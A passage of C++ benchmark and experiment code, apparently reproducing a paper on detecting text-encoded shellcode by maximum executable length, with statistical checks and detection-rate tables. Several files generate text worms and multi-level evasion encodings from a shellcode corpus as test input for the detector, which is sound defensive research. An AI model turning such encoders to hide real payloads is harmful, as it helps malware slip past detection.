BENCHMARK(BM_MonteCarloRound);

void BM_ExactLongestRunCdf(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        mel::stats::longest_run_cdf_exact(1540, 0.227, 40));
  }
}
BENCHMARK(BM_ExactLongestRunCdf);

void BM_StreamDetectorFeed(benchmark::State& state) {
  mel::core::StreamDetector stream;
  const auto& payload = benign_4k();
  for (auto _ : state) {
    benchmark::DoNotOptimize(stream.feed(payload));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_StreamDetectorFeed);

void BM_ConcreteMachineWorm(benchmark::State& state) {
  const auto& payload = worm_bytes();
  for (auto _ : state) {
    mel::exec::ConcreteMachine machine(payload);
    benchmark::DoNotOptimize(machine.run());
  }
}
BENCHMARK(BM_ConcreteMachineWorm);

void BM_SignatureScan(benchmark::State& state) {
  mel::baselines::SignatureScanner scanner;
  scanner.add_signatures_from(mel::textcode::binary_shellcode_corpus());
  const auto& payload = benign_4k();
  (void)scanner.scan(payload);  // Build the automaton outside the loop.
  for (auto _ : state) {
    benchmark::DoNotOptimize(scanner.scan(payload));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_SignatureScan);

void BM_EncodeTextWorm(benchmark::State& state) {
  mel::util::Xoshiro256 rng(2);
  const auto& binary = mel::textcode::binary_shellcode_corpus().front();
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        mel::textcode::encode_text_worm(binary.bytes, {}, rng));
  }
}
BENCHMARK(BM_EncodeTextWorm);

}  // namespace

BENCHMARK_MAIN();
