// Experiment E13 — Section 7's "Russian doll" argument, measured.
//
// The hypothetical evasion: encode the binary into text, then encrypt
// that text *within the text domain* so the final payload shows "very
// little trend of a text malware". The paper rebuts the XOR shortcut
// (Figure 4: no single text key exists — see fig4_xor_closure); here we
// measure the general case by actually building multi-level encodings:
// each level's decrypter must itself be text with forward-only jumps, so
// the size AND the MEL grow geometrically — the opposite of hiding.

#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/detector.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/textcode/shellcode_corpus.hpp"
#include "mel/traffic/english_model.hpp"

int main() {
  mel::bench::print_title(
      "Section 7 — multilevel (Russian doll) encryption makes it worse");

  mel::util::Xoshiro256 rng(7);
  mel::core::DetectorConfig config;
  config.early_exit = false;
  const mel::core::MelDetector detector(config);

  std::printf("\n%-18s %6s | %8s %8s %10s | %8s %8s\n", "payload", "level",
              "bytes", "MEL", "verdict", "xfactor", "per-dword");
  for (const auto& binary : mel::textcode::binary_shellcode_corpus()) {
    if (binary.bytes.size() < 16) continue;
    mel::util::ByteBuffer current = binary.bytes;
    std::size_t previous_size = binary.bytes.size();
    for (int level = 1; level <= 3; ++level) {
      mel::textcode::TextWormOptions options;
      options.text_sled_length = level == 1 ? 48 : 0;  // One sled suffices.
      options.ret_tail_dwords = level == 1 ? 24 : 0;
      current = mel::textcode::encode_text_worm(current, options, rng);
      const auto verdict = detector.scan(current);
      std::printf("%-18s %6d | %8zu %8lld %10s | %7.1fx %8.1f\n",
                  level == 1 ? binary.name.c_str() : "", level,
                  current.size(), static_cast<long long>(verdict.mel),
                  verdict.malicious ? "MALICIOUS" : "benign",
                  static_cast<double>(current.size()) /
                      static_cast<double>(previous_size),
                  static_cast<double>(current.size()) /
                      (static_cast<double>(binary.bytes.size()) / 4.0));
      previous_size = current.size();
    }
  }

  std::printf(
      "\nEach level multiplies the payload ~6-9x (a dword of level k is\n"
      "~26 bytes of level k+1) and lengthens the straight-line decrypter\n"
      "accordingly: the MEL grows with every wrapping. Multilevel\n"
      "encryption cannot hide a text worm from a MEL detector — it feeds\n"
      "it. The missing shortcut, a one-to-one text-to-text cipher with a\n"
      "constant key, does not exist (see fig4_xor_closure).\n");
  return 0;
}
