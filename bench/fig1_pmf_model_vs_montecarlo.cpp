// Experiment E1 — Figure 1 of the paper.
//
// Juxtaposes the PMF of the MEL from the probabilistic model against
// Monte-Carlo simulation, varying n (1K/5K/10K at p=0.175) and varying p
// (0.125/0.175/0.300 at n=1500), with the alpha=1% thresholds annotated.
// Paper: "a near-perfect match can be observed in almost all the cases";
// thresholds grow with n and shrink with p.
//
// Convention note: the paper's model (and its Monte-Carlo, which measures
// maximum inter-head *distance*) counts a run of k valid instructions as
// k+1. Our simulator reports the run itself, so the empirical histogram
// is shifted by +1 for comparison — see EXPERIMENTS.md.

#include <cmath>
#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/mel_model.hpp"
#include "mel/stats/ks_test.hpp"
#include "mel/stats/monte_carlo.hpp"

namespace {

using mel::bench::print_section;
using mel::bench::print_title;

void run_panel(const char* label, std::int64_t n, double p,
               std::uint64_t seed) {
  mel::stats::MonteCarloConfig config;
  config.n = n;
  config.p = p;
  config.rounds = 40000;
  config.seed = seed;
  const mel::stats::IntHistogram empirical =
      mel::stats::simulate_mel_distribution(config);
  const mel::core::MelModel model(n, p);
  const double tau = model.threshold_for_alpha(0.01);

  print_section(label);
  std::printf("  n=%lld p=%.3f rounds=%llu seed=%llu  "
              "tau(alpha=1%%)=%.2f\n",
              static_cast<long long>(n), p,
              static_cast<unsigned long long>(config.rounds),
              static_cast<unsigned long long>(seed), tau);
  std::printf("%5s  %9s  %9s  %9s\n", "MEL", "model", "monte-c.", "|diff|");
  double max_diff = 0.0;
  const auto lo = static_cast<std::int64_t>(empirical.quantile(0.001));
  const auto hi = static_cast<std::int64_t>(empirical.quantile(0.9995)) + 2;
  for (std::int64_t x = lo; x <= hi; ++x) {
    // Paper convention: model at x corresponds to simulated run x-1.
    const double model_pmf = model.pmf(x);
    const double mc_pmf = empirical.pmf(x - 1);
    max_diff = std::max(max_diff, std::fabs(model_pmf - mc_pmf));
    if (x % 2 == 0 || model_pmf > 0.01) {
      std::printf("%5lld  %9.5f  %9.5f  %9.5f%s\n",
                  static_cast<long long>(x), model_pmf, mc_pmf,
                  std::fabs(model_pmf - mc_pmf),
                  (std::fabs(static_cast<double>(x) - tau) < 0.5)
                      ? "   <-- tau"
                      : "");
    }
  }
  std::printf("  max |model - montecarlo| over plotted range: %.5f "
              "(paper: near-perfect match)\n",
              max_diff);
  // Formal goodness-of-fit: KS test of the simulation against the model
  // CDF (in the paper's +1 run convention).
  std::vector<double> cdf;
  for (std::int64_t x = 0; x <= empirical.max() + 2; ++x) {
    cdf.push_back(model.cdf(x + 1));
  }
  const mel::stats::KsResult ks =
      mel::stats::ks_test_against_cdf(empirical, 0, cdf);
  std::printf("  KS statistic %.4f, p-value %.3f -> %s\n", ks.statistic,
              ks.p_value,
              ks.p_value > 0.01 ? "consistent with the model"
                                : "DIVERGES from the model");
}

}  // namespace

int main() {
  print_title(
      "Figure 1 — PMF of the MEL: probabilistic model vs Monte-Carlo");

  std::printf("\nPanel A: varying n at p = 0.175 "
              "(paper: tau increases with n for fixed alpha)\n");
  run_panel("n = 1K", 1000, 0.175, 101);
  run_panel("n = 5K", 5000, 0.175, 102);
  run_panel("n = 10K", 10000, 0.175, 103);

  std::printf("\nPanel B: varying p at n = 1500 "
              "(paper: decreasing p forces a higher tau)\n");
  run_panel("p = 0.125", 1500, 0.125, 104);
  run_panel("p = 0.175", 1500, 0.175, 105);
  run_panel("p = 0.300", 1500, 0.300, 106);

  std::printf("\nThreshold summary (alpha = 1%%):\n");
  for (const auto& [n, p] : std::initializer_list<std::pair<std::int64_t, double>>{
           {1000, 0.175}, {5000, 0.175}, {10000, 0.175},
           {1500, 0.125}, {1500, 0.175}, {1500, 0.300}}) {
    std::printf("  n=%6lld p=%.3f -> tau=%6.2f\n", static_cast<long long>(n),
                p, mel::core::MelModel(n, p).threshold_for_alpha(0.01));
  }
  return 0;
}
