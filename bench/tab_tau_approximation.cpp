// Experiment E2 — Section 3.2's approximation check.
//
// The paper derives tau from alpha = 1 - [1 - p(1-p)^tau]^n, dropping the
// (1 - (1-p)^tau) factor, and reports that at alpha=1%, n=1540, p=0.227
// the approximate and exact inversions give 40.61 vs 40.62 (0.02% apart).
// This bench reproduces that number and sweeps a parameter grid to show
// the approximation error stays negligible.

#include <cmath>
#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/mel_model.hpp"

int main() {
  mel::bench::print_title(
      "Section 3.2 — threshold with vs without the approximation");

  {
    const mel::core::MelModel model(1540, 0.227);
    const double approx = model.threshold_for_alpha(0.01);
    const double exact = model.threshold_for_alpha_exact(0.01);
    std::printf("\nPaper operating point (alpha=1%%, n=1540, p=0.227):\n");
    std::printf("  tau with approximation    : %.4f   (paper: 40.61)\n",
                approx);
    std::printf("  tau without approximation : %.4f   (paper: 40.62)\n",
                exact);
    std::printf("  relative difference       : %.4f%%  (paper: 0.02%%)\n",
                100.0 * (exact - approx) / exact);
  }

  mel::bench::print_section("Grid sweep, alpha = 1%");
  std::printf("%8s %8s %12s %12s %12s\n", "n", "p", "tau_approx",
              "tau_exact", "rel_diff_%");
  for (std::int64_t n : {200, 500, 1000, 1540, 3000, 5000, 10000, 50000}) {
    for (double p : {0.05, 0.125, 0.175, 0.227, 0.300, 0.450}) {
      const mel::core::MelModel model(n, p);
      const double approx = model.threshold_for_alpha(0.01);
      const double exact = model.threshold_for_alpha_exact(0.01);
      std::printf("%8lld %8.3f %12.4f %12.4f %12.5f\n",
                  static_cast<long long>(n), p, approx, exact,
                  100.0 * std::fabs(exact - approx) / exact);
    }
  }

  mel::bench::print_section("Alpha sensitivity at n=1540, p=0.227");
  std::printf("%10s %12s %12s\n", "alpha", "tau_approx", "tau_exact");
  for (double alpha : {0.05, 0.02, 0.01, 0.005, 0.001, 0.0001}) {
    const mel::core::MelModel model(1540, 0.227);
    std::printf("%10.4f %12.4f %12.4f\n", alpha,
                model.threshold_for_alpha(alpha),
                model.threshold_for_alpha_exact(alpha));
  }
  return 0;
}
