// Experiment E8 — Figure 4 of the paper.
//
// Exhaustively enumerates XOR over the 95-character text domain, bucketed
// by the paper's three-part partition (0x20-0x3F, 0x40-0x5F, 0x60-0x7E).
// Paper: XOR of two bytes from the same part lands in the non-text range
// 0x00-0x1F, so no single text key can decrypt text to text — the
// "Russian doll" one-to-one encryption shortcut does not exist.

#include <algorithm>
#include <cstdio>
#include <vector>

#include "bench_util.hpp"
#include "mel/textcode/text_domain.hpp"

int main() {
  mel::bench::print_title("Figure 4 — XOR closure of the text domain");

  const auto table = mel::textcode::xor_closure_table();
  const char* names[3] = {"0x20-0x3F", "0x40-0x5F", "0x60-0x7E"};

  std::printf("\nFraction of XOR results that stay text, per part pair:\n\n");
  std::printf("%12s", "");
  for (const auto* name : names) std::printf(" %12s", name);
  std::printf("\n");
  for (int a = 0; a < 3; ++a) {
    std::printf("%12s", names[a]);
    for (int b = 0; b < 3; ++b) {
      std::printf(" %11.1f%%", 100.0 * table[a][b].text_fraction());
    }
    std::printf("\n");
  }

  std::printf("\nFraction landing in the non-text control range "
              "0x00-0x1F:\n\n");
  std::printf("%12s", "");
  for (const auto* name : names) std::printf(" %12s", name);
  std::printf("\n");
  for (int a = 0; a < 3; ++a) {
    std::printf("%12s", names[a]);
    for (int b = 0; b < 3; ++b) {
      std::printf(" %11.1f%%",
                  100.0 * static_cast<double>(table[a][b].low_results) /
                      static_cast<double>(table[a][b].pairs));
    }
    std::printf("\n");
  }
  std::printf("\n(paper: same-part XOR always ends in 0x00-0x1F — the "
              "diagonal is 100%%)\n");

  mel::bench::print_section("Single-key search");
  std::printf("  A nontrivial key mapping every text byte to text exists: "
              "%s (paper: none)\n",
              mel::textcode::single_xor_key_exists() ? "YES (!)" : "NO");
  std::printf("\n  Best keys by coverage (text bytes kept text, of 95):\n");
  std::vector<std::pair<int, int>> ranked;  // (coverage, key)
  for (int key = 1; key <= 0xFF; ++key) {
    ranked.emplace_back(
        mel::textcode::xor_key_coverage(static_cast<std::uint8_t>(key)),
        key);
  }
  std::sort(ranked.rbegin(), ranked.rend());
  for (int slot = 0; slot < 5; ++slot) {
    std::printf("    key 0x%02X -> %d/95\n", ranked[slot].second,
                ranked[slot].first);
  }
  std::printf("  (key 0x00 is the identity: 95/95 but encrypts nothing)\n");
  return 0;
}
