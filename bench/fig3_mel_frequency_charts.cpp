// Experiment E5 — Figure 3 of the paper.
//
// MEL frequency charts for benign vs malicious text traffic: 100 benign
// cases of ~4K chars and >100 generated text worms, full-MEL measurement
// (no early exit). Paper: benign averages near 20 with max 40 (= tau);
// malicious is always above 120 — a clear gap.

#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/detector.hpp"
#include "mel/stats/histogram.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/english_model.hpp"

int main() {
  mel::bench::print_title(
      "Figure 3 — MEL frequency charts, benign vs malicious text");

  const auto benign = mel::traffic::make_benign_dataset({});
  const auto worms = mel::textcode::text_worm_corpus(108, 2008);

  mel::core::DetectorConfig config;
  config.early_exit = false;
  config.preset_frequencies = mel::traffic::measure_distribution(benign);
  const mel::core::MelDetector detector(config);

  mel::stats::IntHistogram benign_hist;
  mel::stats::IntHistogram worm_hist;
  double tau = 0.0;
  for (const auto& payload : benign) {
    const auto verdict = detector.scan(payload);
    benign_hist.add(verdict.mel);
    tau = verdict.threshold;
  }
  for (const auto& worm : worms) {
    worm_hist.add(detector.scan(worm.bytes).mel);
  }

  mel::bench::print_section("Benign MEL frequencies (100 cases)");
  for (const auto& [mel_value, count] : benign_hist.items()) {
    std::printf("%5lld  %4llu  ", static_cast<long long>(mel_value),
                static_cast<unsigned long long>(count));
    for (std::uint64_t i = 0; i < count; ++i) std::putchar('#');
    std::putchar('\n');
  }
  std::printf("\n  benign: mean=%.1f min=%lld max=%lld   "
              "(paper: average near 20, max 40)\n",
              benign_hist.mean(),
              static_cast<long long>(benign_hist.min()),
              static_cast<long long>(benign_hist.max()));
  std::printf("  derived tau = %.2f (alpha = 1%%)\n", tau);

  mel::bench::print_section("Malicious MEL frequencies (108 text worms)");
  // Bucket by 20 to keep the chart compact.
  mel::stats::IntHistogram bucketed;
  for (const auto& [mel_value, count] : worm_hist.items()) {
    bucketed.add(mel_value / 20 * 20, count);
  }
  for (const auto& [bucket, count] : bucketed.items()) {
    std::printf("%5lld+ %4llu  ", static_cast<long long>(bucket),
                static_cast<unsigned long long>(count));
    for (std::uint64_t i = 0; i < count; ++i) std::putchar('#');
    std::putchar('\n');
  }
  std::printf("\n  malicious: mean=%.1f min=%lld max=%lld   "
              "(paper: always above 120)\n",
              worm_hist.mean(), static_cast<long long>(worm_hist.min()),
              static_cast<long long>(worm_hist.max()));
  std::printf("\n  Gap between benign max (%lld) and malicious min (%lld): "
              "%lld instructions — the clear differentiator.\n",
              static_cast<long long>(benign_hist.max()),
              static_cast<long long>(worm_hist.min()),
              static_cast<long long>(worm_hist.min() - benign_hist.max()));
  return 0;
}
