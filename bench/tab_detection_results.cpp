// Experiment E7 — Section 5.3's headline result.
//
// Runs the full detector over 100 benign cases and >100 text worms with
// the automatically derived threshold. Paper: "the MEL threshold of 40
// catches all the malicious cases and not a single benign case gets
// misclassified" — zero false positives and zero false negatives.
// Reported here for both calibration modes and across alpha settings
// (the paper's user-configurable sensitivity).

#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/detector.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/email_gen.hpp"
#include "mel/traffic/english_model.hpp"

namespace {

struct Rates {
  int false_positives = 0;
  int false_negatives = 0;
  double tau = 0.0;
};

Rates evaluate(const mel::core::MelDetector& detector,
               const std::vector<mel::util::ByteBuffer>& benign,
               const std::vector<mel::textcode::Shellcode>& worms) {
  Rates rates;
  for (const auto& payload : benign) {
    const auto verdict = detector.scan(payload);
    if (verdict.malicious) ++rates.false_positives;
    rates.tau = verdict.threshold;
  }
  for (const auto& worm : worms) {
    if (!detector.scan(worm.bytes).malicious) ++rates.false_negatives;
  }
  return rates;
}

}  // namespace

int main() {
  mel::bench::print_title(
      "Section 5.3 — detection results with the derived threshold");

  const auto benign = mel::traffic::make_benign_dataset({});
  const auto worms = mel::textcode::text_worm_corpus(108, 2008);
  const auto corpus_table = mel::traffic::measure_distribution(benign);

  std::printf("\nTest data: %zu benign cases (~4K text chars each), "
              "%zu text worms.\n",
              benign.size(), worms.size());
  std::printf("Paper: tau=40 -> zero FP, zero FN.\n");

  mel::bench::print_section(
      "Calibration mode x alpha sweep (FP / 100 benign, FN / 108 worms)");
  std::printf("%-34s %8s %10s %6s %6s\n", "mode", "alpha", "tau", "FP",
              "FN");
  for (double alpha : {0.02, 0.01, 0.005, 0.001}) {
    {
      mel::core::DetectorConfig config;
      config.alpha = alpha;
      config.preset_frequencies = corpus_table;
      const Rates rates =
          evaluate(mel::core::MelDetector(config), benign, worms);
      std::printf("%-34s %8.3f %10.2f %6d %6d\n",
                  "preset (corpus-calibrated)", alpha, rates.tau,
                  rates.false_positives, rates.false_negatives);
    }
    {
      mel::core::DetectorConfig config;
      config.alpha = alpha;
      const Rates rates =
          evaluate(mel::core::MelDetector(config), benign, worms);
      std::printf("%-34s %8.3f %10.2f %6d %6d\n",
                  "preset (built-in web profile)", alpha, rates.tau,
                  rates.false_positives, rates.false_negatives);
    }
  }

  mel::bench::print_section("Transfer to the e-mail channel (Section 1)");
  {
    const mel::traffic::EmailGenerator email;
    const auto mail = email.make_mail_corpus(50, 4000, 13);
    const mel::core::MelDetector detector;  // Built-in profile, no retuning.
    int fp = 0;
    for (const auto& payload : mail) {
      if (detector.scan(payload).malicious) ++fp;
    }
    int fn = 0;
    for (const auto& worm : worms) {
      if (!detector.scan(worm.bytes).malicious) ++fn;
    }
    std::printf("  mail corpus (50 x 4KB bodies): FP=%d FN=%d — the model\n"
                "  only needs the channel's character profile, so it\n"
                "  transfers across text protocols without retuning.\n",
                fp, fn);
  }

  mel::bench::print_section("Adaptive mode (estimates from each payload)");
  std::printf(
      "Safe on benign traffic, but a worm controls its own byte mix and\n"
      "thereby its own threshold — the self-calibration hazard:\n");
  mel::core::DetectorConfig adaptive;
  adaptive.measure_input = true;
  const Rates rates =
      evaluate(mel::core::MelDetector(adaptive), benign, worms);
  std::printf("  adaptive: FP=%d FN=%d  "
              "(FN inflated by adversarial self-calibration;\n"
              "   use a benign-calibrated preset in deployment)\n",
              rates.false_positives, rates.false_negatives);

  mel::bench::print_section("Verdict detail for one worm and one benign case");
  const mel::core::MelDetector detector;
  const auto worm_verdict = detector.scan(worms.front().bytes);
  std::printf("  %-28s mel=%5lld tau=%6.2f -> %s\n",
              worms.front().name.c_str(),
              static_cast<long long>(worm_verdict.mel),
              worm_verdict.threshold,
              worm_verdict.malicious ? "MALICIOUS" : "benign");
  const auto benign_verdict = detector.scan(benign.front());
  std::printf("  %-28s mel=%5lld tau=%6.2f -> %s\n", "benign-case-0",
              static_cast<long long>(benign_verdict.mel),
              benign_verdict.threshold,
              benign_verdict.malicious ? "MALICIOUS" : "benign");
  return 0;
}
