// Experiment E12 — ablations of the design choices DESIGN.md calls out.
//
//  (a) Validity rules one by one: each rule's contribution to p and to the
//      benign/malicious separation (the paper's "finding more ways to
//      invalidate instructions is important", Section 3.3).
//  (b) MEL measurement engines: the model-faithful linear sweep vs the
//      every-entry DAG vs the strict path explorer — quantifying how much
//      max-over-entries/forks inflates benign MELs, and what the
//      uninitialized-register rule buys back.
//  (c) Model variants: the paper's closed form vs the exact longest-run
//      law (the one-bin convention shift) and the tau impact.

#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/mel_model.hpp"
#include "mel/exec/mel.hpp"
#include "mel/exec/sweep.hpp"
#include "mel/stats/descriptive.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"

namespace {

using mel::exec::ValidityRules;

struct RuleToggle {
  const char* name;
  bool ValidityRules::*member;
};

constexpr RuleToggle kToggles[] = {
    {"io_instructions", &ValidityRules::io_instructions},
    {"wrong_segment_memory", &ValidityRules::wrong_segment_memory},
    {"cs_write", &ValidityRules::cs_write},
    {"segment_register_load", &ValidityRules::segment_register_load},
    {"interrupts", &ValidityRules::interrupts},
    {"privileged", &ValidityRules::privileged},
    {"far_control_transfer", &ValidityRules::far_control_transfer},
    {"aam_zero", &ValidityRules::aam_zero},
};

}  // namespace

int main() {
  mel::bench::print_title("Ablations — validity rules, engines, model");

  const auto benign = mel::traffic::make_benign_dataset({.cases = 40});
  const auto worms = mel::textcode::text_worm_corpus(24, 9);

  mel::bench::print_section(
      "(a) Rule knock-out: empirical p and benign/worm mean MEL (sweep)");
  std::printf("  %-28s %10s %12s %12s\n", "configuration", "emp. p",
              "benign MEL", "worm MEL");
  const auto measure = [&](const ValidityRules& rules) {
    double p_sum = 0.0;
    double benign_mel = 0.0;
    double worm_mel = 0.0;
    mel::exec::MelOptions options;
    options.rules = rules;
    for (const auto& payload : benign) {
      p_sum += mel::exec::analyze_sweep(payload, rules).invalid_fraction;
      benign_mel += static_cast<double>(
          mel::exec::compute_mel(payload, options).mel);
    }
    for (const auto& worm : worms) {
      worm_mel += static_cast<double>(
          mel::exec::compute_mel(worm.bytes, options).mel);
    }
    std::printf("%10.4f %12.1f %12.1f\n", p_sum / benign.size(),
                benign_mel / benign.size(), worm_mel / worms.size());
  };
  std::printf("  %-28s ", "full DAWN rules");
  measure(ValidityRules::dawn());
  for (const RuleToggle& toggle : kToggles) {
    ValidityRules rules = ValidityRules::dawn();
    rules.*(toggle.member) = false;
    std::printf("  - %-26s ", toggle.name);
    measure(rules);
  }
  {
    ValidityRules rules = ValidityRules::dawn();
    rules.absolute_memory = true;
    std::printf("  + %-26s ", "absolute_memory (non-paper)");
    measure(rules);
  }
  std::printf("  %-28s ", "APE rules");
  measure(ValidityRules::ape());
  std::printf("\n  (dropping io_instructions guts p — exactly the paper's "
              "point about the letters l,m,n,o)\n");

  mel::bench::print_section(
      "(b) Engines on benign 4K cases: sweep vs DAG vs strict explorer");
  {
    mel::stats::RunningStats sweep_stats;
    mel::stats::RunningStats dag_stats;
    mel::stats::RunningStats strict_stats;
    for (const auto& payload : benign) {
      mel::exec::MelOptions options;
      options.engine = mel::exec::MelEngine::kLinearSweep;
      sweep_stats.add(static_cast<double>(
          mel::exec::compute_mel(payload, options).mel));
      options.engine = mel::exec::MelEngine::kAllPathsDag;
      dag_stats.add(static_cast<double>(
          mel::exec::compute_mel(payload, options).mel));
      mel::exec::MelOptions strict;
      strict.rules = ValidityRules::dawn(/*strict=*/true);
      strict.step_budget = 5'000'000;
      strict_stats.add(static_cast<double>(
          mel::exec::compute_mel(payload, strict).mel));
    }
    std::printf("  %-34s mean=%6.1f max-ish=%6.1f\n",
                "linear sweep (model-faithful)", sweep_stats.mean(),
                sweep_stats.mean() + 3 * sweep_stats.stddev());
    std::printf("  %-34s mean=%6.1f\n",
                "DAG: every entry + branch forks", dag_stats.mean());
    std::printf("  %-34s mean=%6.1f\n",
                "explorer: DAG + uninit-reg rule", strict_stats.mean());
    std::printf("\n  Max-over-entries with forking inflates benign MEL "
                "well above the single-stream law;\n"
                "  the strict uninitialized-register rule claws some back "
                "— DAWN's pruning rationale.\n");
  }

  mel::bench::print_section(
      "(c) Model vs exact longest-run law (convention shift)");
  {
    const mel::core::MelModel model(1540, 0.227);
    double tv_raw = 0.0;
    double tv_shift = 0.0;
    for (std::int64_t x = 0; x <= 200; ++x) {
      tv_raw += std::abs(model.pmf(x) - model.pmf_exact_dp(x));
      tv_shift += std::abs(model.pmf(x + 1) - model.pmf_exact_dp(x));
    }
    std::printf("  total-variation(model, exact law)        : %.4f\n",
                tv_raw / 2.0);
    std::printf("  total-variation(model shifted -1, exact) : %.4f\n",
                tv_shift / 2.0);
    std::printf("  -> the paper's run convention counts k valid "
                "instructions as k+1 (inter-head distance);\n"
                "     after the shift the independence approximation error "
                "is negligible.\n");
    // Threshold impact of using the exact law instead.
    double exact_tau = 0.0;
    for (std::int64_t x = 0; x <= 1540; ++x) {
      if (1.0 - model.cdf_exact_dp(x) <= 0.01) {
        exact_tau = static_cast<double>(x);
        break;
      }
    }
    std::printf("  tau(alpha=1%%): paper formula %.2f vs exact law %.0f "
                "(conservative by ~1 instruction)\n",
                model.threshold_for_alpha(0.01), exact_tau);
  }
  return 0;
}
