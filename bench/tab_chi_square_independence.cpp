// Experiment E3 — Section 3.3's contingency table.
//
// Disassembles benign text traffic, classifies every instruction under the
// DAWN rules, counts the validity combinations of consecutive instruction
// pairs, and runs Pearson's chi-square test of independence. The paper's
// table (observed 8960/2797/2797/938 vs expected 8922/2835/2835/900,
// p-value 0.1) does not reject independence — the foundation of the
// Bernoulli model.

#include <array>
#include <cmath>
#include <cstdio>

#include "bench_util.hpp"
#include "mel/exec/sweep.hpp"
#include "mel/stats/chi_square.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/english_model.hpp"
#include "mel/util/rng.hpp"

int main() {
  mel::bench::print_title(
      "Section 3.3 — chi-square independence of consecutive validity");

  // Match the paper's sample size: their table totals 15492 pairs, about
  // 10 cases of 4K chars.
  mel::traffic::BenignDatasetOptions options;
  options.cases = 11;
  options.seed = 33;
  const auto corpus = mel::traffic::make_benign_dataset(options);

  mel::stats::ContingencyTable table(2, 2);
  for (const auto& payload : corpus) {
    const auto sweep = mel::exec::analyze_sweep(
        payload, mel::exec::ValidityRules::dawn());
    for (std::size_t i = 0; i + 1 < sweep.instruction_count; ++i) {
      table.add(sweep.is_valid(i) ? 0 : 1, sweep.is_valid(i + 1) ? 0 : 1);
    }
  }

  const auto result = mel::stats::chi_square_independence_test(table);
  std::printf("\n%-14s | %-22s | %-22s\n", "", "Observed", "Expected");
  std::printf("%-14s | %10s %10s  | %10s %10s\n", "", "Valid I2",
              "Invalid I2", "Valid I2", "Invalid I2");
  for (int r = 0; r < 2; ++r) {
    std::printf("%-14s | %10llu %10llu  | %10.0f %10.0f\n",
                r == 0 ? "Valid I1" : "Invalid I1",
                static_cast<unsigned long long>(table.observed(r, 0)),
                static_cast<unsigned long long>(table.observed(r, 1)),
                table.expected(r, 0), table.expected(r, 1));
  }
  std::printf("\n  pairs           : %llu   (paper: 15492)\n",
              static_cast<unsigned long long>(table.grand_total()));
  std::printf("  chi-square      : %.2f\n", result.statistic);
  std::printf("  dof             : %d\n", result.degrees_of_freedom);
  std::printf("  p-value         : %.4f   (paper: 0.1)\n", result.p_value);
  const double cramers_v = std::sqrt(
      result.statistic / static_cast<double>(table.grand_total()));
  std::printf("  Cramer's V      : %.4f   (association strength; ~0 = "
              "independent)\n",
              cramers_v);
  std::printf("  H0 (independence) %s at the 5%% level.\n",
              result.rejects_independence(0.05) ? "REJECTED" : "not rejected");
  mel::bench::print_section("i.i.d. control (model assumption holds)");
  // The Markov-chain generator deliberately carries English bigram
  // structure, which leaks a weak correlation into instruction validity.
  // Sampling the *same* byte distribution i.i.d. removes it — this is the
  // regime the paper's real trace evidently approximated (p-value 0.1).
  {
    const auto dist = mel::traffic::measure_distribution(corpus);
    mel::util::Xoshiro256 rng(99);
    std::array<double, 256> cdf{};
    double acc = 0.0;
    for (int b = 0; b < 256; ++b) {
      acc += dist[b];
      cdf[b] = acc;
    }
    mel::util::ByteBuffer stream;
    while (stream.size() < 44000) {
      const double u = rng.next_double();
      int b = 0;
      while (b < 255 && cdf[b] < u) ++b;
      stream.push_back(static_cast<std::uint8_t>(b));
    }
    const auto sweep = mel::exec::analyze_sweep(
        stream, mel::exec::ValidityRules::dawn());
    mel::stats::ContingencyTable iid_table(2, 2);
    for (std::size_t i = 0; i + 1 < sweep.instruction_count; ++i) {
      iid_table.add(sweep.is_valid(i) ? 0 : 1,
                    sweep.is_valid(i + 1) ? 0 : 1);
    }
    const auto iid_result =
        mel::stats::chi_square_independence_test(iid_table);
    std::printf("  pairs=%llu chi2=%.2f p-value=%.4f -> H0 %s\n",
                static_cast<unsigned long long>(iid_table.grand_total()),
                iid_result.statistic, iid_result.p_value,
                iid_result.rejects_independence(0.05) ? "REJECTED"
                                                      : "not rejected");
  }

  std::printf("\nPaper's own table for reference:\n");
  mel::stats::ContingencyTable paper(2, 2);
  paper.add(0, 0, 8960);
  paper.add(0, 1, 2797);
  paper.add(1, 0, 2797);
  paper.add(1, 1, 938);
  const auto paper_result = mel::stats::chi_square_independence_test(paper);
  std::printf("  chi2=%.2f p=%.4f -> %s\n", paper_result.statistic,
              paper_result.p_value,
              paper_result.rejects_independence(0.05) ? "rejected"
                                                      : "not rejected");
  return 0;
}
