#pragma once
// Text exporters for metrics snapshots and scan traces.
//
//   * to_prometheus — Prometheus exposition format (text/plain; version
//     0.0.4): one # HELP / # TYPE header per family, histogram series as
//     cumulative `_bucket{le=...}` plus `_sum` / `_count`. Suitable for a
//     /metrics scrape endpoint or a bench-harness dump.
//   * to_json / from_json — a stable machine-readable snapshot that
//     round-trips exactly: from_json(to_json(s)) == s. Bench harnesses
//     diff snapshots across runs; the golden-file tests pin the format.
//   * trace_to_json — one scan's spans with stage names and nanosecond
//     timestamps.
//
// Output is deterministic: series are emitted in the snapshot's sorted
// (name, labels) order, and all numbers are integers (the registry keeps
// histogram sums in int64 precisely so exports never depend on float
// formatting).

#include <string>
#include <string_view>

#include "mel/obs/metrics.hpp"
#include "mel/obs/trace.hpp"
#include "mel/util/status.hpp"

namespace mel::obs {

/// Prometheus exposition format rendering of the snapshot.
[[nodiscard]] std::string to_prometheus(const MetricsSnapshot& snapshot);

/// JSON rendering of the snapshot (stable key order, 2-space indent).
[[nodiscard]] std::string to_json(const MetricsSnapshot& snapshot);

/// Parses to_json output back into a snapshot. kInvalidArgument on any
/// structural or type mismatch; round-trips to_json exactly.
